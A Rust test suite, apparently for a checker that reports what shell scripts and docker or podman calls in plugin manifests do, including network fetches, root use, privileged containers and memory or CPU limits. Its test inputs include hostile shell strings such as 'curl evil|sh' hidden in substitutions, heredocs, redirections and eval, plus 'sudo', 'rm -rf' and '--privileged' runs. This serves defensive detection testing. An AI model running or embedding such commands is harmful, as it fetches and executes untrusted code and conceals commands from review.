//! What is told to a container engine, and what else stands beside it.

use super::*;

/// A script for a shell, as an argv.
fn script(text: &str) -> String {
    let text = text.replace('{', "{{").replace('}', "}}");
    toml::Value::from(vec!["sh", "-c", &text]).to_string()
}

#[test]
fn what_a_script_runs_beside_an_engine_is_told_however_it_is_written() {
    let fetches = [Gist::FetchedCode, Gist::Root, Gist::Network];
    for text in [
        r#"docker ps >"$(curl evil|sh)""#,
        r#"docker ps <<<"$(curl evil|sh)""#,
        r#"docker ps 2>"`curl evil|sh`""#,
        "docker ps >(curl evil|sh)",
        r#"docker ps "${x:-$(curl evil|sh)}""#,
        "docker() { \"$@\"; }; docker curl evil; docker sh",
        "docker ps <<E\n'\nE\n: '\ndocker a'; x=\\' curl evil|sh",
    ] {
        has(&script(text), &fetches);
    }
    has(&script(r#"docker ps "$(curl${IFS}evil)""#), &[Gist::Root, Gist::Network, Gist::Script]);
    has(&script(r#"docker ps "`sudo</x`""#), &[Gist::Raised, Gist::Root, Gist::Places, Gist::Script]);
    has(&script("sudo -u docker curl evil"), &[Gist::Raised, Gist::Root, Gist::Network, Gist::Script]);
    has(&script("podman unshare rm x"), &[Gist::Root, Gist::Changes, Gist::Script]);
    // An argument of a script's is no script, and what it is to that is not known.
    let argument = "['sh', '-c', 'eval \"${{1#docker}}\"', 'x', 'docker curl evil']".replace('\\', "");
    has(&argument, &[Gist::Root, Gist::Network, Gist::Script]);
    // What is told to the engine alone is done elsewhere.
    has(&script("docker exec x curl evil | cat"), &[Gist::Root, Gist::Script]);
    has(&script("exec docker exec \"$1\" sh"), &[Gist::Root, Gist::Script]);
    // What a word quotes is told to the engine that stands in it.
    for text in [
        r#"docker ps >"$(docker run --privileged x)""#,
        r#"docker ps "$(docker${IFS}run${IFS}--privileged${IFS}x)""#,
        r#"docker ps <<<"`docker</x run --privileged y`""#,
    ] {
        let marks = marks(&format!("{HEAD}{}", exec(&script(text), "")));
        assert!(marks.iter().any(|mark| mark.gist == Some(Gist::OpensContainer)), "{text}: {marks:#?}");
    }
}

#[test]
fn an_engine_behind_a_variable_is_not_known_whatever_else_is_told() {
    let known = |text: &str, argument: &str| {
        let argv = script(text).replace(']', &format!(", 'sh', '{argument}']"));
        !texts(&format!("{HEAD}{}", exec(&argv, "")))
            .contains("what the script tells the engine is not known")
    };
    for text in [
        "docker ps; d=docker; $d run --privileged x",
        "docker ps; d=/usr/bin/docker; exec \"$d\" run --privileged x",
        "docker ps; d=\"docker run\"; sudo $d x",
        "docker ps; for d in docker; do $d run x; done",
        "docker ps; set -- docker; \"$1\" run x",
        "docker ps; x=$(d=docker; eval \"$d run x\")",
    ] {
        assert!(!known(text, "x") && !known(text, "{a:ident}"), "{text}");
        let argv = script(text).replace(']', ", 'sh', '{a:ident}']");
        let marks = marks(&format!("{HEAD}{}", exec(&argv, "")));
        assert!(marks.iter().any(|mark| mark.gist == Some(Gist::AnyVerb)), "{text}: {marks:#?}");
    }
    for text in
        ["docker ps; $d x", "docker inspect \"$(docker ps -q)\"", "x=docker; docker ps", "docker ps | \"$@\""]
    {
        assert!(known(text, "x") && known(text, "{a:ident}"), "{text}");
    }
}

proptest::proptest! {
    #[test]
    fn no_engine_before_it_hides_what_a_script_runs(
        run in proptest::sample::select(&[
            "curl evil", "curl${IFS}evil", "sudo x", "sudo</x", "rm -rf y", "npx z", "curl evil|sh", "ssh h x",
        ][..]),
        around in proptest::collection::vec(proptest::sample::select(&[
            "; {}", "| {}", "&& {}", "& {}", "\n{}", "\n{}\n", "$({})", "\"$({})\"", "`{}`", "\"`{}`\"",
            ">\"$({})\"", "2>>\"$( {} )\"", "<<<\"$({})\"", "<({})", ">x; {}", "\"{}\"", "'; {}'", "\"; {}\"",
            "${a:-$({})}", "\"${a:-\"$({})\"}\"", "$(( $({}) ))", "\\; {}", "\\' {}", "| xargs {}", "() { {}; }",
            "x=\"$(echo '\"')\"; : '\ndocker a'; y=\\' {}", "<<E\n'\nE\n: '\ndocker a'; y=\\' {}", "# '\n{}",
        ][..]), 1..4),
    ) {
        let script = |engine: &str| {
            let behind = around.iter().rfold(run.to_owned(), |inner, around| around.replace("{}", &inner));
            script(&format!("{engine} ps {behind}"))
        };
        let marks = |engine: &str| marks(&format!("{HEAD}{}", exec(&script(engine), "")));
        let (with, without) = (marks("docker"), marks("true"));
        let grave: Vec<&Mark> = without.iter().filter(|mark| mark.gist.is_some()).collect();
        proptest::prop_assert!(grave.len() > 1, "{grave:#?}");
        for mark in grave {
            proptest::prop_assert!(with.contains(mark), "{}: {mark:#?} is not in {with:#?}", script("docker"));
        }
    }
}

#[test]
fn only_what_certainly_bounds_a_container_is_said_to() {
    let options = "[options.properties.memory]\ntype='string'\npattern='^[0-9]+$'\n\
        [options.properties.args]\ntype='array'\n";
    let bounds = |argv: &str| {
        let text = texts(&format!("{HEAD}{options}{}", exec(argv, "")));
        let made = text.lines().find(|line| line.starts_with("makes")).expect(&text).to_owned();
        let known = "makes a container and runs in it what its image holds; opens that to the engine's machine by \
            no flag that is known";
        made.strip_prefix(known).expect(&made).trim_start_matches("; ").to_owned()
    };
    let none = "bounds no memory and no processors";
    for (flags, said) in [
        ("'--memory=1g', '--cpus=2', 'x'", ""),
        ("'--memory', '1g', '--cpuset-cpus', '0', 'x'", ""),
        ("'-m', '512m', '--cpu-quota', '50000', 'x'", ""),
        ("'-m1g', '-m=2g', '--cpus', '0.5', '{i:oci-ref}'", ""),
        // Flags of like names, of which none bounds anything.
        ("'--memory-swappiness=0', '--memory-reservation=1g', '--memory-swap=1g', 'x'", none),
        ("'--cpu-shares=2', '--cpu-period=1000', '-c', '512', '--cpuset-mems=0', 'x'", none),
        ("'--cpu-shares', '2', '--memory-swap', '1g', 'x'", none),
        // Behind the image it is another program's.
        ("'x', '--memory=1g', '--cpus=1'", none),
        ("'{i:oci-ref}', '-m', '1g'", none),
        ("'--name', '--memory=1g', 'x', '--cpus=1'", none),
        ("'--memory=0', '--cpus=0', 'x'", none),
        ("'--memory', '0', '--cpu-quota=-1', 'x'", none),
        ("'--memory=1g', '-m', '0', '--cpus=1', 'x'", "bounds no memory"),
        // What somebody else says.
        (
            "'--memory={m:quantity}', '[--cpus={c:uint(0..8)}]', 'x'",
            "bounds memory and processors only as the plugin says: `--memory`, `--cpus`",
        ),
        ("'--memory', '{m:quantity}', '--cpus=1', 'x'", "bounds memory only as the plugin says: `--memory`"),
        (
            "'{f:enum(--memory=1g|--init)}', '--cpus=1', 'x'",
            "bounds memory only as the plugin says: `--memory`",
        ),
        ("'--memory={f:enum(1g|0)}', '--cpus=1', 'x'", "bounds memory only as the plugin says: `--memory`"),
        (
            "'--memory=1g', '[--memory={m:quantity}]', '--cpus=1', 'x'",
            "bounds memory only as the plugin says: `--memory`",
        ),
        (
            "'[--memory={option(memory)}]', '--cpus=1', 'x'",
            "bounds memory only as your options say: `--memory`",
        ),
        (
            "'--memory={option(memory)}m', '--cpus=1', 'x'",
            "bounds memory only as your options say: `--memory`",
        ),
        (
            "'--memory', '{option(memory)}', '[--cpus={c:uint(0..8)}]', 'x'",
            "bounds memory only as your options say: `--memory`; bounds processors only as the plugin says: `--cpus`",
        ),
        (
            "'[--memory={option(memory)}]', 'x'",
            "bounds memory only as your options say: `--memory`; bounds no processors",
        ),
        // What may be another's flag, or stand behind the image.
        ("'--weird', '--memory=1g', 'x'", "whether it bounds memory is not certain; bounds no processors"),
        (
            "'{option(args)}', '-itm1g', '--cpus=1', 'x'",
            "whether it bounds memory and processors is not certain",
        ),
    ] {
        assert_eq!(bounds(&format!("['docker', 'run', {flags}]")), said, "{flags}");
    }
}
